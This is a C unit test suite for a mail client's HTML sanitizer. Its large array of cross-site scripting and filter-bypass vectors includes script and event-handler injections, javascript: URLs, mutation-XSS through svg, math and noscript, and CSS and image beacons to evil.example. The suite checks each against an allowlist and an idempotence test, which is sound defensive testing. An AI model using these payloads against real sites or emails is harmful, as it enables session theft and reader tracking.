// SPDX-License-Identifier: Apache-2.0
// Hostile HTML (attacks 16 to 23), harmless HTML that must survive, and the property that cleaning twice is
// cleaning once, over every vector and thousands of mutations of them.
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#undef fail // base/ctx.h owns the word

#include "mail/html_clean.h"
#include "mail/html_style.h"
#include "mail/html_text.h"
#include "mail/utf.h"

// Nothing of these may do more than show text: no element, attribute, address or style beyond the list.
// clang-format off: one row is one vector
static const char *const hostile[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"javascript:alert(1)\">",
    "<img src=x:x onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">x</div>",
    "<p onclick=alert(1)>x",
    "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"/c/token\">x</a>",
    "<a href=\"blob:https://x/y\">x</a>",
    "<a href=\"https://ok.example\" ping=\"https://evil.example\" onclick=alert(1)>x</a>",
    "<form action=https://evil.example><input name=p type=password><button formaction=javascript:alert(1)>go</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<embed src=\"x.swf\">",
    "<applet code=x></applet>",
    "<portal src=https://evil.example></portal>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img title=\"</xmp><img src=1 onerror=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<noembed><img title=\"</noembed><img src=1 onerror=alert(1)>\"></noembed>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<select><option><script>alert(1)</script></select>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\"></style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=https://evil.example/>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"wi\\64th:\\65xpression(alert(1))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:9999px;height:9999px\">x</div>",
    "<div style=\"margin-top:-900px\">x</div>",
    "<div style=\"color:red;/*\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<div style=\"-moz-binding:url(x)\">x</div>",
    "<div style=\"color:&#117;rl(https://evil.example)\">x</div>",
    "<div style=\"@import 'x'\">x</div>",
    "<div style=\"color:var(--x)\">x</div>",
    "<div style=\"content:attr(href)\">x</div>",
    "<div style=\"font-family:'x;background:url(https://evil.example)'\">x</div>",
    "<div style=\"color:red\\;background:url(x)\">x</div>",
    "<table background=\"https://evil.example/x.png\"><td background=\"javascript:alert(1)\">x</table>",
    "<bgsound src=https://evil.example>",
    "<img src=https://evil.example/t.gif width=1 height=1>",
    "<img srcset=\"https://evil.example/x 1x\" src=\"cid:a\">",
    "<img src=\"cid:a\" lowsrc=https://evil.example>",
    "<video poster=https://evil.example/x src=y></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:image/png;base64,AAAA\">",
    "<img src=\"cid:x onerror=alert(1)\">",
    "<img src='cid:\"><script>alert(1)</script>'>",
    "<a href='https://x.example/\"><script>alert(1)</script>'>x</a>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p dir='\"><script>'>x</p>",
    "<p align=\"left onclick=x\">x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version=1?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY y \"<script>\">]>&y;",
    "<html xmlns:x=y><x:script>alert(1)</x:script>",
    "<o:p onclick=alert(1)>x</o:p>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p><custom><p>x</custom></p>",
    "<a><a><a href=https://x.example>y</a></a></a>",
    "<table><a href=\"javascript:alert(1)\"><tr><td>x",
    "<p id=location name=cookie class=admin>x</p>",
    "<form id=document><input name=cookie></form>",
    "<dialog open>x</dialog>",
    "<slot onslotchange=alert(1)>x</slot>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details ontoggle=alert(1) open>x</details>",
    "<keygen autofocus onfocus=alert(1)>",
    "<font face=\"x' onclick=alert(1)\">x</font>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<p>&ltscript&gtalert(1)</p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<ul><li><ol><li></ul>x",
    "<b><i></b></i>",
    "<p><div></p></div>",
    "</p></div></body></html><script>alert(1)</script>",
    "<table><table><tr><tr><td></table>x",
    "<dd><dt><li><td>x",
    "<h1><h2></h1>",
    "<a href=https://x.example><p><a href=https://y.example>z",
    "<ins><p></ins>",
    "<pre>\n\n<b>x</pre>",
    "<br/><br></br>",
    "<hr/>x</hr>",
    "<span style=\"display:none\"><script>alert(1)</script>hidden</span>",
    "<a href=\"https://user:pass@evil.example:99999/%00%0d%0a\">x</a>",
    "\xEF\xBB\xBF<script>alert(1)</script>",
};
// clang-format on

struct row {
	const char *in, *want;
};

static const struct row kept[] = {
    {"<p dir=\"rtl\" align=\"right\">שלום <b>דנה</b></p>",
     "<p dir=\"rtl\" align=\"right\">שלום <b>דנה</b></p>"},
    {"<div style=\"direction:rtl;text-align:right;color:#333\">x</div>",
     "<div style=\"direction: rtl; text-align: right; color: #333\">x</div>"},
    {"<body dir=rtl><p>x</body>", "<div dir=\"rtl\"><p>x</p></div>"},
    {"<table border=1 cellpadding=2><tr><td colspan=2 bgcolor=#fff valign=top>x</td></tr></table>",
     "<table border=\"1\" cellpadding=\"2\"><tr><td valign=\"top\" bgcolor=\"#fff\" "
     "colspan=\"2\">x</td></tr></table>"},
    {"<img src=\"cid:pic@x\" alt=\"the fridge\" width=300>",
     "<img src=\"cid:pic@x\" alt=\"the fridge\" width=\"300\">"},
    {"<img src=\"https://x.example/logo.png\" alt=\"Logo\">", "<img data-blocked=\"1\" alt=\"Logo\">"},
    {"<a href=\"https://x.example/?a=1&b=2\">x</a>",
     "<a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer "
     "nofollow\">x</a>"},
    {"<a href=\"mailto:dana@example.com\">x</a>",
     "<a href=\"mailto:dana@example.com\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"},
    {"<a href=\"tel:+97245550101\">x</a>",
     "<a href=\"tel:+97245550101\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"},
    {"<ol start=3 type=a><li>x</ol>", "<ol start=\"3\" type=\"a\"><li>x</li></ol>"},
    {"<font color=red size=+1 face=\"Arial, David\">x</font>",
     "<font color=\"red\" size=\"+1\" face=\"Arial, David\">x</font>"},
    {"a &amp; b &lt; c &quot;d&quot; \xC2\xA0 e", "a &amp; b &lt; c &quot;d&quot; \xC2\xA0 e"},
    {"<span style=\"font-family:'David',serif;font-size:12pt\">x</span>",
     "<span style=\"font-family: 'David',serif; font-size: 12pt\">x</span>"},
    {"<blockquote type=cite>x</blockquote>", "<blockquote type=\"cite\">x</blockquote>"},
    {"<p>one<p>two", "<p>one</p><p>two</p>"},
    {"<button>press</button>", "press"},
    {"<div style=\"display:none\">hidden</div>seen", "seen"},
    {"", ""},
};

static struct arena *arena;

static struct slice of(const char *s)
{
	return (struct slice){.ptr = s, .len = strlen(s)};
}

static bool letters_until(struct slice s, size_t *at, char name[24])
{
	size_t n = 0;

	while (*at < s.len &&
	       ((ascii_lower(s.ptr[*at]) >= 'a' && ascii_lower(s.ptr[*at]) <= 'z') || s.ptr[*at] == '-' ||
		(n && s.ptr[*at] >= '0' && s.ptr[*at] <= '9')) &&
	       n < 23)
		name[n++] = s.ptr[(*at)++];
	name[n] = 0;
	return n > 0;
}

static bool in_list(const char *name, const char *const *list)
{
	for (; *list; list++)
		if (strcmp(name, *list) == 0)
			return true;
	return false;
}

static bool value_ok(const char *name, struct slice v)
{
	if (strcmp(name, "href") == 0)
		return ascii_starts(v, S("http://")) || ascii_starts(v, S("https://")) ||
		       ascii_starts(v, S("mailto:")) || ascii_starts(v, S("tel:"));
	if (strcmp(name, "src") == 0)
		return ascii_starts(v, S("cid:"));
	if (strcmp(name, "style") == 0)
		return ascii_seek(v, S("url")) == SIZE_MAX && ascii_seek(v, S("expression")) == SIZE_MAX &&
		       ascii_seek(v, S("position")) == SIZE_MAX && byte_find(v, '\\') == SIZE_MAX &&
		       byte_find(v, '@') == SIZE_MAX;
	return true;
}

// A strict reader of what the cleaner may write, independent of it: knows no leniency at all.
static const char *fault(struct slice s)
{
	static const char *const elements[] = {
	    "a",	"abbr",	      "address", "article", "aside",  "b",	"bdi",	"bdo",
	    "big",	"blockquote", "br",	 "caption", "center", "cite",	"code", "col",
	    "colgroup", "dd",	      "del",	 "div",	    "dl",     "dt",	"em",	"figcaption",
	    "figure",	"font",	      "footer",	 "h1",	    "h2",     "h3",	"h4",	"h5",
	    "h6",	"header",     "hr",	 "i",	    "img",    "ins",	"kbd",	"li",
	    "main",	"mark",	      "nav",	 "ol",	    "p",      "pre",	"q",	"s",
	    "samp",	"section",    "small",	 "span",    "strike", "strong", "sub",	"sup",
	    "table",	"tbody",      "td",	 "tfoot",   "th",     "thead",	"tr",	"tt",
	    "u",	"ul",	      "var",	 "wbr",	    NULL};
	static const char *const attributes[] = {
	    "dir",    "align",	 "lang",    "title",	    "style",	   "href",	  "target",
	    "rel",    "src",	 "alt",	    "data-blocked", "width",	   "height",	  "border",
	    "valign", "bgcolor", "colspan", "rowspan",	    "cellpadding", "cellspacing", "color",
	    "size",   "face",	 "start",   "type",	    NULL};
	char name[24];

	for (size_t i = 0; i < s.len; i++) {
		if (s.ptr[i] == '>')
			return "a bare >";
		if (s.ptr[i] != '<')
			continue;
		i++;
		if (i < s.len && s.ptr[i] == '/')
			i++;
		if (!letters_until(s, &i, name) || !in_list(name, elements))
			return "an element";
		while (i < s.len && s.ptr[i] == ' ') {
			struct slice value;
			size_t end;

			i++;
			if (!letters_until(s, &i, name) || !in_list(name, attributes))
				return "an attribute";
			if (i + 1 >= s.len || s.ptr[i] != '=' || s.ptr[i + 1] != '"')
				return "a value";
			end = byte_find(slice_sub(s, i + 2, s.len), '"');
			if (end == SIZE_MAX)
				return "an open value";
			value = slice_sub(s, i + 2, i + 2 + end);
			if (byte_find(value, '<') != SIZE_MAX || !value_ok(name, value))
				return "a value's content";
			i += end + 3;
		}
		if (i >= s.len || s.ptr[i] != '>')
			return "the end of a tag";
	}
	return NULL;
}

static void check_clean(struct slice in)
{
	struct html_cleaned once = html_clean(arena, in), twice;
	const char *bad = fault(once.html);

	if (bad)
		print_error("%s in\n  [%.*s]\nof [%.*s]\n", bad, SLICE_ARG(once.html), SLICE_ARG(in));
	assert_null(bad);
	assert_true(utf_valid(once.html));
	twice = html_clean(arena, once.html);
	if (!slice_eq(once.html, twice.html))
		print_error("not settled: [%.*s]\n[%.*s]\nof [%.*s]\n", SLICE_ARG(once.html),
			    SLICE_ARG(twice.html), SLICE_ARG(in));
	assert_true(slice_eq(once.html, twice.html));
	arena_reset(arena);
}

static void hostile_is_harmless(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof hostile / sizeof *hostile; i++) {
		check_clean(of(hostile[i]));
		check_clean(arena_printf(arena, "<div>before %s after</div><p>more", hostile[i]));
		check_clean(arena_printf(arena, "<table><tr><td>%s", hostile[i]));
	}
}

static void script_text_does_not_show(void **state)
{
	(void)state;
	assert_true(
	    slice_eq(html_clean(arena, S("a<script>alert(1)</script>b<style>x</style>c")).html, S("abc")));
	assert_true(slice_eq(
	    html_text(arena, S("a<script>alert(1)</script>b<svg><text>x</text></svg>c")).text, S("abc")));
}

static void harmless_survives(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof kept / sizeof *kept; i++) {
		struct slice got = html_clean(arena, of(kept[i].in)).html;

		if (!slice_eq(got, of(kept[i].want)))
			print_error(" got: %.*s\nwant: %s\n", SLICE_ARG(got), kept[i].want);
		assert_true(slice_eq(got, of(kept[i].want)));
	}
}

static void blocked_pictures_are_counted(void **state)
{
	struct html_cleaned c =
	    html_clean(arena, S("<img src=http://a.example/1><img src=cid:x@y><img "
				"src=data:image/png;base64,AA><img width=1 src=//t.example>"));

	(void)state;
	assert_int_equal(c.blocked_images, 3);
	assert_false(c.cut);
}

static void depth_and_size_are_capped(void **state)
{
	struct buf b = buf_new(arena, 4 << 20);
	struct html_cleaned c;

	(void)state;
	for (int i = 0; i < 30000; i++)
		buf_adds(&b, "<div>");
	buf_adds(&b, "deep");
	c = html_clean(arena, buf_slice(&b));
	assert_true(c.cut);
	assert_true(c.html.len < 100000);
	b.len = 0;
	while (b.len < (3u << 20))
		buf_adds(&b, "<p>long</p>");
	c = html_clean(arena, buf_slice(&b));
	assert_true(c.cut);
	assert_null(fault(c.html));
}

// xorshift: the same mutations every run
static uint32_t next(uint32_t *seed)
{
	*seed ^= *seed << 13;
	*seed ^= *seed >> 17;
	return *seed ^= *seed << 5;
}

static void cleaning_twice_is_cleaning_once(void **state)
{
	static const char *const bits[] = {"<p>",
					   "</p>",
					   "<a href=https://x.example>",
					   "<table>",
					   "<td>",
					   "<li>",
					   "<ul>",
					   "<div dir=rtl>",
					   "<b>",
					   "</b>",
					   "<svg>",
					   "<style>",
					   "</style>",
					   "<!--",
					   "-->",
					   "\"",
					   "'",
					   "<",
					   ">",
					   "&",
					   "&#",
					   "&lt",
					   "<form>",
					   "<font size=2>",
					   "<h1>",
					   "<pre>\n",
					   "<dl><dt>",
					   "<center>",
					   "<span style='color:red;margin:1px'>",
					   "<body dir=rtl>",
					   "</table>",
					   "<html>",
					   "</body>",
					   "<option>",
					   "<col>",
					   "<img src=cid:a>",
					   "<o:p>",
					   " "};
	uint32_t seed = 20261122;
	const size_t vectors = sizeof hostile / sizeof *hostile;

	(void)state;
	for (int round = 0; round < 6000; round++) {
		char text[2048];
		size_t len = 0;

		for (int n = 0; n < 6; n++) {
			const char *bit = next(&seed) % 3 ? bits[next(&seed) % (sizeof bits / sizeof *bits)]
							  : hostile[next(&seed) % vectors];
			size_t take = strlen(bit);

			if (next(&seed) % 4 == 0)
				take = next(&seed) % (take + 1);
			if (len + take >= sizeof text)
				break;
			memcpy(text + len, bit, take);
			len += take;
		}
		check_clean(utf_body(arena, (struct slice){.ptr = text, .len = len}, sizeof text));
	}
}

static void styles(void **state)
{
	static const struct row rows[] = {
	    {"color:red", "color: red"},
	    {" COLOR : Red ; x:y ", "color: Red"},
	    {"color:rgb(1,2,3)", "color: rgb(1,2,3)"},
	    {"color:url(x)", ""},
	    {"margin:-1px", ""},
	    {"margin:0 -5px", ""},
	    {"margin:1px 2px", "margin: 1px 2px"},
	    {"font-family:\"a;b\",c;color:red", "color: red"},
	    {"color:red;;position:fixed;width:10px", "color: red; width: 10px"},
	    {"color:red)", ""},
	    {"background:red", ""},
	    {"color:rgb(url(x))", ""},
	    {"color:red /* x */", ""},
	    {"direction:rtl !important", "direction: rtl !important"},
	    {"color", ""},
	    {":red", ""},
	    {"", ""},
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct slice got = html_style_clean(arena, of(rows[i].in));

		if (!slice_eq(got, of(rows[i].want)))
			print_error("[%s] got [%.*s]\n", rows[i].in, SLICE_ARG(got));
		assert_true(slice_eq(got, of(rows[i].want)));
		assert_true(slice_eq(html_style_clean(arena, got), got));
	}
	assert_true(html_style_hides(S("color:red;Display : None")));
	assert_false(html_style_hides(S("display:block")));
}

static int setup(void **state)
{
	(void)state;
	arena = arena_new(0);
	return arena ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	arena_free(arena);
	return 0;
}

#define CASE(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
	    CASE(hostile_is_harmless),
	    CASE(script_text_does_not_show),
	    CASE(harmless_survives),
	    CASE(blocked_pictures_are_counted),
	    CASE(depth_and_size_are_capped),
	    CASE(cleaning_twice_is_cleaning_once),
	    CASE(styles),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
